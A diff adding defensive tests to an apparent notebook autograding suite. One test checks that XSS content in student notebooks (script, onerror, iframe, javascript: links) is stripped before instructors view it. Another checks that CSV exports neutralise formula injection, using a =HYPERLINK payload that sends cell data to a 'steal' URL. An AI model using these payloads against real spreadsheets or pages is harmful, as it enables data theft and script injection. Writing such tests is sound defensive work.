@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import csv
 import io
+import shutil
 import socket
 import sqlite3
 import threading
@@ -18,7 +19,7 @@ from pathlib import Path
 import nbformat
 import pytest
 import submissions as S
-from gradingkit import make_course, tree_digest
+from gradingkit import active_content, make_course, notebook_active_content, tree_digest
 
 from cloudlab import engine
 from cloudlab.grading import autograde, export, feedback, sandbox
@@ -161,6 +162,7 @@ EXPECTED = {  # kind: (status, score, words in the reason); scores are the trust
     "outputs": ("graded", 4, "truncated"),  # q1's source needs a live kernel (get_ipython)
     "forger": ("graded", 0, ""),
     "stash": ("graded", 6, ""),
+    "xss": ("graded", 6, ""),
 }
 
 
@@ -323,6 +325,24 @@ def test_feedback_never_shows_hidden_tests(batch):
     assert "mean([1, 2, 3, 4]) should be 2.5" in carol and "3 / 6" in carol
 
 
+def test_what_instructors_open_carries_no_script_from_the_student(batch):
+    """Manual Grading renders the autograded notebook and the feedback page in the
+    instructor's Jupyter origin: neither holds anything of the student's that could run."""
+    assert "XSS-CELL-RAN" in outputs(batch, "xss"), "the hostile cells ran in the sandbox"
+    path = Path("xss") / "demo" / "demo.ipynb"
+    autograded = nbformat.read(str(batch.course.autograded / path), as_version=4)
+    assert notebook_active_content(autograded) == []
+    text = nbformat.writes(autograded)
+    assert "SAFE-MARKER" in text and "HTML-MARKER" in text, "the harmless parts stay"
+    page = (batch.course.feedback / "xss" / "demo" / "demo.html").read_text()
+    assert active_content(page) == [] and "SAFE-MARKER" in page
+    original = nbformat.read(str(batch.course.state / "originals" / path), as_version=4)
+    kept = " | ".join(notebook_active_content(original))
+    for payload in ("<img onerror=", "<script>", "<iframe>", "href=javascript:",
+                    "output application/javascript", "widget-view", "notebook: widgets"):
+        assert payload in kept, f"the record (course/originals) lost {payload}: {kept}"
+
+
 def test_hidden_tests_are_absent_from_exercises(batch):
     released = (batch.course.release / "demo" / "demo.ipynb").read_text()
     assert "hidden-marker" not in released
@@ -337,6 +357,37 @@ def test_export_has_one_row_per_student_and_assignment(batch, tmp_path):
     assert demo["alice"]["score"] == "6.0" and demo["alice"]["status"] == "graded"
     assert demo["infinite"]["status"] == "timed out"
     assert all(r["status"] == "missing" for r in rows if r["assignment"] != "demo")
+
+
+HOSTILE_NAME = '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"report").ipynb'
+
+
+def test_export_cells_are_never_formulas(batch, tmp_path):
+    """A reason quoting a file name the student chose, and a student id a spreadsheet would
+    evaluate, reach grades.csv as text (OWASP: a leading quote, every cell quoted)."""
+    from nbgrader.api import Gradebook
+
+    from cloudlab.grading import Course
+
+    root = tmp_path / "course"
+    shutil.copytree(batch.course.root / "course", root / "course")
+    course = Course(root)
+    result = Result.load(course.result_file("alice", "demo"))
+    result.reason = f"{HOSTILE_NAME} left out: not a notebook; -1+1; @SUM(A1:A9); +cmd"
+    result.save(course.result_file("alice", "demo"))
+    with Gradebook(course.db_url) as gb:
+        gb.update_or_create_student("@sum")  # collect accepts @ + - in ids
+    with export.export(course, tmp_path / "grades.csv").open(newline="") as f:
+        raw = f.read()
+    rows = list(csv.reader(io.StringIO(raw)))
+    cells = [c for row in rows for c in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
+    alice = next(r for r in csv.DictReader(io.StringIO(raw)) if r["student"] == "alice")
+    assert alice["reason"] == "'" + result.reason and alice["score"] == "6.0"
+    assert "'@sum" in cells
+    quoted = io.StringIO()  # every cell quoted: one split on ';' keeps quoted text whole
+    csv.writer(quoted, quoting=csv.QUOTE_ALL).writerows(rows)
+    assert quoted.getvalue() == raw
 
 
 def test_sweep_removes_containers_of_a_dead_grader(grading_image, docker_engine):
